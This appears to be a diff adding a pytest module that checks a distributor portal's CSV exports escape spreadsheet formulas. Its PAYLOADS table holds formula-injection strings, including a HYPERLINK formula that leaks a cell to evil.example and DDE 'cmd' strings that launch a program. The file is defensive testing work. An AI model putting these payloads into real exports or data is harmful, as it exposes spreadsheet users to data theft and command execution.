@@ -1,0 +1,134 @@
+"""No CSV export hands a spreadsheet a formula to run (CSV or formula injection).
+
+Text in every export comes from people outside the distributor's control: account names
+and numbers, invoice numbers, SKUs and product names arrive from the ERP (often typed by
+the retailer or a supplier), return types and warehouse codes from admins. Each payload
+below starts with a character a spreadsheet runs; each export must write it with a
+leading apostrophe, and every other cell must be either plain text or a number.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from decimal import Decimal, InvalidOperation
+
+import pytest
+from sqlalchemy import select
+
+from models import (
+    Product,
+    ReplacementLine,
+    ReplacementOrder,
+    ReplacementOrderStatus,
+    RetailerAccount,
+    ReturnType,
+    Warehouse,
+)
+from portal.csv_export import FORMULA_STARTS, csv_document, safe_cell
+
+PAYLOADS = {
+    "account_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Optik")',
+    "account_number": "+1+cmd|' /C calc'!A0",
+    "return_type": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "invoice": "-2+3+cmd|' /C calc'!A0",
+    "sku": "=1+1",
+    "brand": "\t=1+1",
+    "model": "\r=1+1",
+    "colour": '=IMPORTXML("http://evil.example","//a")',
+    "warehouse": "@A1",
+}
+
+
+@pytest.fixture
+def poisoned(world, db_session):
+    """Account A's world with a formula in every text column an export writes."""
+    account = db_session.get(RetailerAccount, world.account_a_id)
+    account.name, account.number = PAYLOADS["account_name"], PAYLOADS["account_number"]
+    db_session.get(ReturnType, world.return_type_id).name = PAYLOADS["return_type"]
+    world.credited.lines[0].order_line.order.invoice_number = PAYLOADS["invoice"]
+    for product in db_session.scalars(select(Product)):
+        product.sku = f"{PAYLOADS['sku']}{product.id}"
+        product.brand, product.model = PAYLOADS["brand"], PAYLOADS["model"]
+        product.colour = PAYLOADS["colour"]
+    db_session.scalars(select(Warehouse)).one().code = PAYLOADS["warehouse"]
+    order = ReplacementOrder(
+        number="RO-EVIL",
+        rma_id=world.credited.id,
+        account_id=account.id,
+        status=ReplacementOrderStatus.TO_FULFIL,
+    )
+    line = world.credited.lines[0]
+    db_session.add_all(
+        [
+            order,
+            ReplacementLine(
+                rma_id=world.credited.id,
+                product_id=line.order_line.product_id,
+                quantity=2,
+                unit_price=Decimal("40.00"),
+            ),
+        ]
+    )
+    db_session.commit()
+    return world
+
+
+def _logged_in(world_app, world, identity: str):
+    client = world_app.test_client()
+    with client.session_transaction() as session:
+        session["_user_id"] = str(world.users[identity].id)
+    return client
+
+
+def _cells(response) -> list[list[str]]:
+    assert response.status_code == 200, response.status
+    assert response.mimetype == "text/csv"
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        Decimal(cell)
+    except InvalidOperation:
+        return False
+    return True
+
+
+EXPORTS = [
+    ("admin", "GET", "/admin/rmas.csv", ("account_name", "account_number", "return_type")),
+    ("admin", "GET", "/admin/rma_lines.csv", ("invoice", "sku")),
+    ("admin", "POST", "/admin/replacement-orders/export", ("account_number", "sku")),
+    (
+        "warehouse",
+        "GET",
+        "/warehouse/b-stock.csv",
+        ("sku", "brand", "model", "colour", "warehouse"),
+    ),
+]
+
+
+@pytest.mark.parametrize(("identity", "method", "path", "columns"), EXPORTS)
+def test_every_export_neutralises_formulas(world_app, poisoned, identity, method, path, columns):
+    client = _logged_in(world_app, poisoned, identity)
+    rows = _cells(client.open(path, method=method))
+    assert len(rows) > 1, "the export has rows to check"
+    cells = [cell for row in rows[1:] for cell in row]
+    for cell in cells:
+        assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (path, cell)
+    for column in columns:
+        payload = PAYLOADS[column]
+        expected = "'" + payload
+        assert any(cell == expected or cell.startswith(expected) for cell in cells), (
+            path,
+            column,
+        )
+
+
+def test_numbers_are_left_alone_and_text_that_looks_like_one_is_not():
+    document = csv_document(
+        [[Decimal("-12.50"), -3, "-12.50", "Optik =1+1", "", None, "'=already quoted"]]
+    )
+    assert document == "-12.50,-3,'-12.50,Optik =1+1,,,'=already quoted\r\n"
+    assert safe_cell("\r\n=1") == "'\r\n=1"
+    assert safe_cell("@") == "'@"
